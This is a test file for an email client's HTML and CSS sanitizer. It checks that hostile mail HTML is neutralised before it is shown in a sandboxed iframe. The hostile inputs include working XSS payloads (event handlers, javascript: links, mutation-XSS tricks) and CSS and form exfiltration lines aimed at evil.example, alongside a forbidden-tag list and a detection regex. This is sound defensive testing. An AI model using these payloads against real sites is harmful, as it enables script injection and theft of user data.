import { readFileSync } from 'node:fs';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { htmlTextFallback, sanitizeHtml } from './html-sanitizer.js';
import { sanitizeStyleAttribute, sanitizeStylesheet } from './css-sanitizer.js';

const FORBIDDEN = new Set(['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'form', 'input', 'button', 'textarea', 'select', 'meta', 'link', 'base', 'svg', 'math', 'noscript', 'template', 'video', 'audio', 'source', 'portal']);
const LOADING_CSS = /url\s*\(|@import|expression\s*\(|image-set\s*\(|-moz-binding|behavior\s*:/i;

/**
 * Parses sanitized output the way the sandboxed iframe will (a browser's HTML parser, a second
 * time) and lists every way it could run script or load something. Empty means safe.
 */
const checkerWindow = new JSDOM('').window;
function violations(html: string): string[] {
  const doc = new checkerWindow.DOMParser().parseFromString(`<!DOCTYPE html><html><head></head><body>${html}</body></html>`, 'text/html');
  const out: string[] = [];
  for (const el of doc.querySelectorAll('*')) {
    const tag = el.localName;
    if (['html', 'head', 'body'].includes(tag)) continue;
    if (FORBIDDEN.has(tag) || el.namespaceURI !== 'http://www.w3.org/1999/xhtml') out.push(`element <${tag}> (${el.namespaceURI})`);
    if (tag === 'style' && LOADING_CSS.test((el.textContent ?? '').replace(/url\("\/api\/v1\/attachments\/[^"]*"\)/g, ''))) out.push(`loading CSS in <style>: ${el.textContent}`);
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      // eslint-disable-next-line no-control-regex
      const value = attr.value.replace(/[\s\u0000-\u001f]/g, '');
      if (name.startsWith('on')) out.push(`event handler ${name} on <${tag}>`);
      const urlAttr = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'srcset', 'cite', 'longdesc', 'ping', 'lowsrc', 'dynsrc', 'content'].includes(name);
      if (urlAttr && /^(?:javascript|vbscript|data):/i.test(value) && !(tag === 'img' && name === 'src' && /^data:image\/(?:png|gif|jpe?g|webp|bmp);/i.test(value))) out.push(`${name}="${attr.value}" on <${tag}>`);
      if (['src', 'srcset', 'background', 'poster', 'action', 'formaction', 'xlink:href', 'data'].includes(name) && !(tag === 'img' && name === 'src' && /^(?:\/api\/v1\/attachments\/|data:image\/)/.test(attr.value))) {
        out.push(`${name}="${attr.value}" on <${tag}>`);
      }
      if (name === 'href' && !['a', 'area'].includes(tag)) out.push(`href on <${tag}>`);
      if (name === 'style' && LOADING_CSS.test(attr.value.replace(/url\("\/api\/v1\/attachments\/[^"]*"\)/g, ''))) out.push(`loading style on <${tag}>: ${attr.value}`);
      if (name === 'http-equiv') out.push('http-equiv');
    }
    if (tag === 'a' && el.hasAttribute('href') && !el.getAttribute('href')!.startsWith('#')) {
      if (el.getAttribute('rel') !== 'noopener noreferrer' || el.getAttribute('target') !== '_blank') out.push(`link without rel/target: ${el.outerHTML}`);
    }
  }
  return out;
}

const fixtures = JSON.parse(readFileSync(new URL('./fixtures/dompurify-payloads.json', import.meta.url), 'utf8')) as { payloads: { title: string; payload: string }[] };

const HOSTILE: [string, string][] = [
  ['script tag', '<p>hi</p><script>alert(1)</script>'],
  ['event handlers', '<img src=x onerror=alert(1)><body onload=alert(2)><div onmouseover="alert(3)">x</div>'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a><a href=" jav&#x09;ascript:alert(1)">y</a><a href="JaVaScRiPt:alert(1)">z</a>'],
  ['vbscript and data links', '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>'],
  ['SVG with script', '<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a></svg>'],
  ['SVG image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['iframe, object, embed', '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf">'],
  ['form and inputs', '<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="https://evil.example">Go</button></form>'],
  ['meta refresh and base', '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">'],
  ['CSS exfiltration', '<style>input[value^="a"]{background:url(https://evil.example/?a)} @import url(https://evil.example/x.css); @import "https://evil.example/y.css";</style><p>x</p>'],
  ['obfuscated CSS url', '<div style="background:u\\rl(https://evil.example/1)">a</div><div style="background:\\75 rl(https://evil.example/2)">b</div><div style="background:\\000075rl(https://evil.example/3)">c</div><div style="background:u/**/rl(https://evil.example/4)">d</div><div style="background:URL(https://evil.example/5)">e</div>'],
  ['CSS expression and bindings', '<div style="width:expression(alert(1));-moz-binding:url(x.xml#y);behavior:url(x.htc)">x</div>'],
  ['style closing trick', '<style>\\3c /style\\3e \\3c script\\3e alert(1)\\3c /script\\3e</style><p>x</p>'],
  ['image-set', '<div style="background-image:image-set(\'https://evil.example/x.png\' 1x)">x</div>'],
  ['legacy loaders', '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table><img srcset="https://evil.example/1.png 1x"><video poster="https://evil.example/p.png"></video><a ping="https://evil.example/ping" href="https://ok.example">l</a>'],
  ['mXSS noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['mXSS math/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['mXSS form/math', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['mXSS svg/p', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['comments', '<!--><img src=x onerror=alert(1)>--><p>x</p><!-- --!><img src=y onerror=alert(2)> -->'],
  ['template', '<template><script>alert(1)</script></template>'],
];

describe('sanitizeHtml: hostile input', () => {
  it.each(HOSTILE)('%s', (_name, html) => {
    const out = sanitizeHtml(html).html;
    expect(violations(out)).toEqual([]);
    // Sanitizing the output again changes nothing: no mutation left to exploit on re-parse.
    expect(violations(sanitizeHtml(out).html)).toEqual([]);
  });

  it(`passes the ${fixtures.payloads.length} payloads of DOMPurify's own test suite (mutation XSS included)`, () => {
    const bad: string[] = [];
    for (const { title, payload } of fixtures.payloads) {
      const out = sanitizeHtml(payload).html;
      const found = [...violations(out), ...violations(sanitizeHtml(out).html)];
      if (found.length) bad.push(`${title}: ${found.join('; ')}`);
    }
    expect(bad).toEqual([]);
  });

  it('checks would catch a script (the checker itself works)', () => {
    expect(violations('<img src=x onerror=alert(1)>')).not.toEqual([]);
    expect(violations('<div style="background:url(http://x)">')).not.toEqual([]);
    expect(violations('<a href="https://x">x</a>')).not.toEqual([]);
  });
});

describe('sanitizeHtml: images and links', () => {
  it('blocks remote images, keeping their address in data-mailroom-src', () => {
    const r = sanitizeHtml('<img src="https://tracker.example/p.gif?u=1" alt="logo"><img src="//cdn.example/x.png"><img src="http://a.example/b.png">');
    expect(r.remoteImages).toBe(3);
    expect(r.html).toBe(
      '<img alt="logo" data-mailroom-src="https://tracker.example/p.gif?u=1"><img data-mailroom-src="https://cdn.example/x.png"><img data-mailroom-src="http://a.example/b.png">',
    );
  });

  it('drops data-mailroom-src written by the sender', () => {
    expect(sanitizeHtml('<img data-mailroom-src="https://evil.example/x" src="cid:nothing">').html).toBe('<img>');
  });

  it('points cid: images at our attachments through the mapping, in img and CSS', () => {
    const r = sanitizeHtml('<img src="cid:logo@x"><img src="CID:missing@x"><div style="background:url(cid:bg@x)">x</div><img src="cid:logo%40x">', {
      cidToAttachmentId: new Map<string, string | number>([
        ['logo@x', 17],
        ['bg@x', 'a b'],
      ]),
    });
    expect(r.html).toBe('<img src="/api/v1/attachments/17"><img><div style="background:url(&quot;/api/v1/attachments/a%20b&quot;)">x</div><img src="/api/v1/attachments/17">');
    expect(r).toMatchObject({ inlineImages: 3, missingInlineImages: 1 });
  });

  it('accepts a custom attachment URL but never a remote one', () => {
    expect(sanitizeHtml('<img src="cid:a">', { cidToAttachmentId: { a: 1 }, attachmentUrl: (id) => `/files/${id}` }).html).toBe('<img src="/files/1">');
    expect(sanitizeHtml('<img src="cid:a">', { cidToAttachmentId: { a: 1 }, attachmentUrl: (id) => `https://evil.example/${id}` }).html).toBe('<img>');
  });

  it('keeps safe data: images, drops the others unless allowed', () => {
    expect(sanitizeHtml('<img src="data:image/png;base64,iVBORw0KGgo=">').html).toBe('<img src="data:image/png;base64,iVBORw0KGgo=">');
    expect(sanitizeHtml('<img src="data:image/png;base64,iVBORw0KGgo=">', { allowDataImages: false }).html).toBe('<img>');
    expect(sanitizeHtml('<img src="data:text/html,<b>">').html).toBe('<img>');
  });

  it('opens links in a new context without opener or referrer; keeps in-page anchors', () => {
    expect(sanitizeHtml('<a href="https://ok.example/x" target="_self">x</a><a href="#sec">s</a><a href="mailto:a@b.example">m</a>').html).toBe(
      '<a href="https://ok.example/x" target="_blank" rel="noopener noreferrer">x</a><a href="#sec">s</a><a href="mailto:a@b.example" target="_blank" rel="noopener noreferrer">m</a>',
    );
    expect(sanitizeHtml('<a href="/api/v1/me">rel</a><a href="ftp://x">f</a>').html).toBe('<a>rel</a><a>f</a>');
  });

  it('keeps the look of ordinary email HTML: head styles, tables, inline styles', () => {
    const html = '<html><head><style>.x{color:#333;font-family:Arial}</style></head><body><table width="100%" style="border:1px solid #ccc"><tr><td class="x">Hello <b>you</b></td></tr></table></body></html>';
    expect(sanitizeHtml(html).html).toBe('<style>.x{color:#333;font-family:Arial}</style><table width="100%" style="border:1px solid #ccc"><tbody><tr><td class="x">Hello <b>you</b></td></tr></tbody></table>');
  });
});

describe('CSS sanitizer', () => {
  it('decodes escapes and comments before checking', () => {
    for (const css of ['background:u\\rl(x)', 'background:\\75rl(x)', 'background:\\0075 rl(x)', 'background:u\\\nrl(x)', 'background:url\n(x)', 'b/**/ackground:url(x)', 'background:image-set("x" 1x)']) {
      expect(sanitizeStyleAttribute(`color:red;${css}`), css).toBe('color:red');
    }
  });

  it('removes @import in every spelling and blocks with loaders', () => {
    expect(sanitizeStylesheet('@import url(x.css); @IMPORT "y.css"; @\\69mport "z.css"; p{color:red}')).toBe('p{color:red}');
    expect(sanitizeStylesheet('@font-face{font-family:x;src:url(https://evil.example/f.woff)} p{color:blue}')).toBe('@font-face{font-family:x;}p{color:blue}');
    expect(sanitizeStylesheet('@media screen{a{background:url(x)}b{color:red}}')).toBe('@media screen{a{}b{color:red}}');
  });

  it('leaves no character that could close the style element', () => {
    expect(sanitizeStylesheet('p{content:"\\3c/style\\3e"}')).not.toMatch(/</);
  });
});

describe('htmlTextFallback', () => {
  it('turns HTML into readable text with link targets, without scripts or styles', () => {
    const text = htmlTextFallback('<style>p{}</style><p>Hello <b>world</b></p><ul><li>one</li></ul><a href="https://example.com/x">the link</a><script>alert(1)</script>');
    expect(text).toContain('Hello world');
    expect(text).toContain('one');
    expect(text).toContain('the link [https://example.com/x]');
    expect(text).not.toMatch(/alert|p\{\}/);
  });
});
